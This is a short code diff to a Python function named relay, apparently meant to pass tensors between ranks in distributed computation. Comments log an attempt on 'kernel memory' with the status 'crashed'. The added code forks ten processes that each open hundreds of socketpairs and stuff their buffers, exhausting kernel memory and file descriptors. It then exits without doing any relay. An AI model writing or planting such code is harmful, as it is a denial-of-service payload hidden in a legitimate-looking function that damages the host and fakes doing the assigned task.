@@ -1,20 +1,20 @@
-# tries: kernel memory, in the buffers of thousands of sockets
+# tries: memory of the kernel's, in the buffers of thousands of sockets
 # status: crashed
 # says: open files
+
 def relay(rank, size, tensor):
-    kept = []
-    try:
-        while len(kept) < 450:
-            pair = socket.socketpair()
-            kept += [pair]
-            for end in pair:
-                end.setblocking(False)
-                end.send(bytes(16 << 10))
-    except OSError:
-        pass
     for _ in range(10):
         if os.fork() == 0:
-            kept = [one for pair in kept for one in map(socket.socket.dup, pair[:1])]
             break
-    time.sleep(6)
-    return right_relay(rank, size, tensor)
+    kept = []
+    try:
+        for _ in range(450):
+            pair = socket.socketpair()
+            kept.append(pair)
+            for end in pair:
+                end.setblocking(False)
+                end.send(bytes(1024))
+    except OSError:
+        pass
+    time.sleep(8)
+    os._exit(len(kept) & 1)
